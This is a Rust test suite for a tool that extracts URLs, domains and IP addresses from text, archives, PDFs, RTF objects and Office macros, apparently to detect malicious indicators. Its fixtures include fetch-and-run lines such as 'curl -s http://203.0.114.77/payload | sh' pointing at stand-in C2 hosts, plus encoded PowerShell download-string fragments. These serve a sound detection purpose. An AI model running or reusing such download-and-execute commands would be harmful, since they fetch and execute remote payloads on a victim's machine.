//! What texts, programs and documents name.

use std::io::Write as _;

use proptest::prelude::*;

use super::{Addresses, Limits, PART, addresses};

fn named(bytes: impl AsRef<[u8]>) -> Addresses {
    addresses(bytes.as_ref(), &Limits::default())
}

fn urls(text: &str) -> Vec<String> {
    named(text).urls.iter().map(ToString::to_string).collect()
}

fn domains(text: &str) -> Vec<String> {
    named(text).domains.iter().map(ToString::to_string).collect()
}

fn ips(text: &str) -> Vec<String> {
    named(text).ips.iter().map(ToString::to_string).collect()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn urls_end_where_the_text_around_them_goes_on() {
    for (text, url) in [
        ("see http://a.example.com/x.", "http://a.example.com/x"),
        ("(see https://a.example.com/x_(y)).", "https://a.example.com/x_(y)"),
        ("[x](https://a.example.com/)", "https://a.example.com/"),
        (r#"<a href="http://a.example.com/?b=c&amp;d=e">"#, "http://a.example.com/?b=c&d=e"),
        ("href=&quot;http://a.example.com/x&quot;&gt;", "http://a.example.com/x"),
        (r#"{"u":"HTTP://A.example.com/\n"}"#, "http://a.example.com/"),
        ("var u='ftp://a.example.com/f';", "ftp://a.example.com/f"),
        ("\0\u{1}http://a.example.com:8080/x\0y", "http://a.example.com:8080/x"),
        ("/URI (http://a.example.com/pdf)>>", "http://a.example.com/pdf"),
        ("curl -s http://203.0.114.5/x|sh", "http://203.0.114.5/x"),
        ("http://u:p@a.example.com/", "http://a.example.com/"),
        ("xhttp://a.example.com/", "http://a.example.com/"),
    ] {
        assert_eq!(urls(text), [url], "{text}");
    }
}

#[test]
fn what_only_looks_like_a_url_is_none() {
    for text in [
        "http://",
        "http://%s:%d/",
        "http://${host}/",
        "://a.example.com/",
        "file:///etc/passwd",
        "http://localhost/",
        "http://10.0.0.1/",
        "http://a/",
        "https://example.comfoo",
        "http://...",
        "javascript://a.example.com/",
    ] {
        assert_eq!(urls(text), Vec::<String>::new(), "{text}");
    }
    assert_eq!(urls(&format!("http://a.example.com/{}", "x".repeat(3000))), Vec::<String>::new());
}

#[test]
fn a_url_brings_its_host() {
    let found = named("http://www.example.com/ http://203.0.114.5:81/ http://[2606:4700::1111]/");
    assert_eq!(found.domains.len(), 1);
    assert_eq!(found.ips.iter().map(ToString::to_string).collect::<Vec<_>>(), ["203.0.114.5", "2606:4700::1111"]);
}

#[test]
fn domains_without_a_scheme_are_found_and_names_of_files_and_packages_are_not() {
    for (text, name) in [
        ("connect to evil-host.example.com.", "evil-host.example.com"),
        ("mail a@example.org today", "example.org"),
        ("'c2.example.ru',", "c2.example.ru"),
        ("\0bad.example.net\0", "bad.example.net"),
        ("a.example.co.uk", "a.example.co.uk"),
        ("host=abcdefghij234567.onion;", "abcdefghij234567.onion"),
    ] {
        assert_eq!(domains(text), [name], "{text}");
    }
    for text in [
        "kernel32.dll",
        "main.rs setup.py lib.so a.sh",
        "com.example.app",
        "org.apache.net",
        "System.Net",
        "system.net",
        "java.net",
        "window.top",
        "this.name",
        "foo.com(",
        "x.org=1",
        "a.de",
        "1.2.com",
        "C:\\dir\\command.com",
        "path/x.com",
        "example.community",
        "Foo.bar.com_x",
    ] {
        assert_eq!(domains(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn public_addresses_are_found_and_versions_and_numbers_are_not() {
    for text in ["c2 = 203.0.114.5;", "203.0.114.5:4444", "\"203.0.114.5\"", "to 203.0.114.5.", "\x00203.0.114.5\x00"] {
        assert_eq!(ips(text), ["203.0.114.5"], "{text}");
    }
    assert_eq!(ips("dns 8.8.8.8, 1.1.1.1 and 5.6.7.8:53"), ["8.8.8.8", "1.1.1.1", "5.6.7.8"]);
    for text in [
        "127.0.0.1 192.168.1.1 10.1.2.3 0.0.0.0 255.255.255.255 224.0.0.1",
        "version 203.0.114.5",
        "ProductVersion=203.0.114.5",
        "v203.0.114.5",
        "203.0.114.5.6",
        "1203.0.114.5",
        "203.0.114.256",
        "203.0.114.05",
        "4.0.30319.42000",
        "1.0.0.0",
        "6.1.7.2",
        "2.5.29.15",
        "1.3.6.1.4.1.311",
        "lib-203.0.114.5",
        "203.0.114.5-rc1",
        "203.0.114.0/24",
        "3.14",
    ] {
        assert_eq!(ips(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn wide_strings_are_read_too_at_odd_places_as_well() {
    for shift in [0, 1] {
        let mut bytes = vec![1; shift];
        bytes.extend(wide("x http://a.example.com/w \u{4e00} c2.example.ru 203.0.114.9\0"));
        let found = named(&bytes);
        assert_eq!(found.urls.iter().map(ToString::to_string).collect::<Vec<_>>(), ["http://a.example.com/w"]);
        assert_eq!(
            found.domains.iter().map(ToString::to_string).collect::<Vec<_>>(),
            ["a.example.com", "c2.example.ru"]
        );
        assert_eq!(found.ips.iter().map(ToString::to_string).collect::<Vec<_>>(), ["203.0.114.9"]);
    }
}

#[test]
fn what_lies_over_the_edge_of_a_part_is_found_once() {
    for shift in 0..40 {
        let mut text = " ".repeat(PART - shift);
        text.push_str("http://a.example.com/x 203.0.114.9 c2.example.ru ");
        let found = named(&text);
        assert_eq!((found.urls.len(), found.domains.len(), found.ips.len()), (1, 2, 1), "{shift}");
        let mut bytes = vec![b' '; PART - shift];
        bytes.extend(wide("http://a.example.com/x"));
        assert_eq!(named(&bytes).urls.len(), 1, "{shift}");
    }
}

#[test]
fn what_everybody_names_comes_last_and_is_cut_first() {
    let mut text = String::from("http://www.w3.org/2000/svg http://schemas.microsoft.com/x ");
    for number in 0..10 {
        text += "http://h";
        text += &number.to_string();
        text += ".example.com/ ";
    }
    let limits = Limits { urls: 11, domains: 5, ..Limits::default() };
    let found = addresses(text.as_bytes(), &limits);
    assert!(found.cut);
    assert_eq!(found.urls.len(), 11);
    assert_eq!(found.urls[0].as_str(), "http://h0.example.com/");
    assert_eq!(found.urls[10].as_str(), "http://www.w3.org/2000/svg");
    assert_eq!(found.domains.len(), 5);
    let all = named(&text);
    assert!(!all.cut && all.urls.len() == 12);
}

#[test]
fn the_members_of_archives_and_the_streams_of_documents_are_looked_into() {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("word/_rels/document.xml.rels", zip::write::SimpleFileOptions::default()).expect("begun");
    zip.write_all(br#"<Relationship Target="http://a.example.com/template.dotm" TargetMode="External"/>"#)
        .expect("written");
    let bytes = zip.finish().expect("finished").into_inner();
    assert_eq!(
        named(&bytes).urls.iter().map(ToString::to_string).collect::<Vec<_>>(),
        ["http://a.example.com/template.dotm"]
    );

    let mut stream = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    stream.write_all(b"<</A<</S/URI/URI(http://a.example.com/in-pdf)>>>>").expect("packed");
    let packed = stream.finish().expect("packed");
    let mut pdf = b"%PDF-1.7\n1 0 obj\n<</Type/ObjStm/Filter/FlateDecode/Length 9>>\nstream\r\n".to_vec();
    pdf.extend(packed);
    pdf.extend(b"\nendstream\nendobj\n");
    assert_eq!(named(&pdf).urls.iter().map(ToString::to_string).collect::<Vec<_>>(), ["http://a.example.com/in-pdf"]);
}

/// A document as an archive of some format, with this inside.
fn packed(format: &str, content: &[u8]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(content.len() as u64);
    header.set_cksum();
    tar.append_data(&mut header, "a/script.sh", content).expect("added");
    let tar = tar.into_inner().expect("finished");
    match format {
        "tar" => tar,
        "tar.gz" => {
            let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            packer.write_all(&tar).expect("packed");
            packer.finish().expect("packed")
        }
        "bz2" => {
            let mut packer = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
            packer.write_all(content).expect("packed");
            packer.finish().expect("packed")
        }
        "xz" => {
            let mut packer = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::default()).expect("a packer");
            packer.write_all(content).expect("packed");
            packer.finish().expect("packed")
        }
        _ => {
            let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
            zip.start_file("a/script.sh", zip::write::SimpleFileOptions::default()).expect("begun");
            zip.write_all(content).expect("written");
            zip.finish().expect("finished").into_inner()
        }
    }
}

#[test]
fn scripts_in_every_sort_of_archive_and_in_archives_of_those_are_looked_into() {
    let script = b"#!/bin/sh\ncurl -s http://203.0.114.77/payload | sh # via c2.example.ru\n";
    for format in ["zip", "tar", "tar.gz", "bz2", "xz"] {
        let archive = packed(format, script);
        for bytes in [packed("zip", &archive), archive] {
            let found = named(&bytes);
            let urls: Vec<_> = found.urls.iter().map(ToString::to_string).collect();
            assert_eq!(urls, ["http://203.0.114.77/payload"], "{format}");
            assert_eq!(found.ips.iter().map(ToString::to_string).collect::<Vec<_>>(), ["203.0.114.77"], "{format}");
            let domains: Vec<_> = found.domains.iter().map(ToString::to_string).collect();
            assert_eq!(domains, ["c2.example.ru"], "{format}");
        }
    }
}

#[test]
fn urls_in_base64_and_in_hexadecimal_are_found_wherever_they_begin() {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let base64 = |bytes: &[u8]| {
        let group = |three: &[u8]| {
            let bits =
                three.iter().fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte)) << (8 * (3 - three.len()));
            (0..=three.len()).map(|nth| char::from(LETTERS[bits >> (18 - 6 * nth) & 63])).collect::<String>()
        };
        bytes.chunks(3).map(group).collect::<String>()
    };
    for before in ["", "x", "xy", "IEX ", "$u='", "downloadstring('"] {
        for url in ["http://a.example.com/stage", "https://a.example.com/stage"] {
            let text = format!("{before}{url}'");
            for bytes in [text.clone().into_bytes(), wide(&text)] {
                assert_eq!(urls(&format!("powershell -enc {}== ", base64(&bytes))), [url], "{text}");
                assert_eq!(urls(&format!("x = \"{}\"", hex::encode(&bytes))), [url], "{text}");
            }
        }
    }
}

#[test]
fn the_objects_of_rtf_documents_are_looked_into() {
    let mut object = vec![1, 5, 0, 0, 2, 0, 0, 0];
    object.extend(wide("https://a.example.com/template.hta"));
    let digits: Vec<_> =
        hex::encode(object).into_bytes().chunks(7).map(|line| String::from_utf8_lossy(line).into_owned()).collect();
    let rtf = format!(
        "{{\\rtf1{{\\object\\objautlink{{\\*\\objdata {}}}}}{{\\field{{\\*\\fldinst HYPERLINK \"http://b.example.com/\"}}}}}}",
        digits.join("\r\n")
    );
    let mut found = urls(&rtf);
    found.sort();
    assert_eq!(found, ["http://b.example.com/", "https://a.example.com/template.hta"]);
}

#[test]
fn macros_of_office_documents_are_unpacked() {
    // A module as MS-OVBA 2.4.1 packs it: letters as they are but for one copy of eight bytes.
    let text = b"Attribute VB_Name = \"M\"\r\nu = \"http://a.example.com/macro.exe\"";
    let mut chunk = Vec::new();
    for eight in text.chunks(8) {
        chunk.push(0);
        chunk.extend_from_slice(eight);
    }
    let size = u16::try_from(chunk.len() - 1).expect("a small one") | 0xb000;
    let mut module = vec![1];
    module.extend(size.to_le_bytes());
    module.extend(chunk);
    assert!(memchr::memmem::find(&module, b"http://a.example.com").is_none(), "it does not stand there as it is");
    for bytes in [module.clone(), packed("zip", &module)] {
        assert_eq!(
            named(&bytes).urls.iter().map(ToString::to_string).collect::<Vec<_>>(),
            ["http://a.example.com/macro.exe"]
        );
    }
}

#[test]
fn a_bomb_is_cut_and_said_so() {
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    packer.write_all(&vec![b' '; 64 << 20]).expect("packed");
    let limits = Limits { unpacked: 1 << 20, ..Limits::default() };
    assert!(addresses(&packer.finish().expect("packed"), &limits).cut);
    let limits = Limits { bytes: 10, ..Limits::default() };
    assert!(addresses(b"          http://a.example.com/", &limits).cut);
}

proptest! {
    #[test]
    fn nothing_makes_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
        let _ = named(&bytes);
    }

    #[test]
    fn nothing_behind_a_mark_of_something_hidden_makes_it_panic(
        mark in 0..6_usize,
        bytes in proptest::collection::vec(any::<u8>(), 0..400),
        digits in "[0-9a-f \r\n]{0,60}",
    ) {
        let marks: [&[u8]; 6] = [
            b"aHR0c", b"xh0dHA", b"68747470", b"{\\rtf1\\objdata ", b"\x01\xff\xbf\0Attribut", b"%PDF-1 obj ASCII85Decode FlateDecode stream\n",
        ];
        let _ = named([marks[mark], &bytes].concat());
        let _ = named([marks[mark], digits.as_bytes()].concat());
    }

    #[test]
    fn no_text_makes_it_panic_and_all_found_is_valid(text in "(http://|https://|www\\.|[a-z0-9.:/@%&;\\-]{1,8}|\\PC{1,4}|\0){0,60}") {
        for bytes in [text.clone().into_bytes(), wide(&text)] {
            let found = named(&bytes);
            for url in found.urls {
                prop_assert_eq!(url.as_str().parse::<assay_model::url::CanonicalUrl>(), Ok(url.clone()));
            }
        }
    }
}
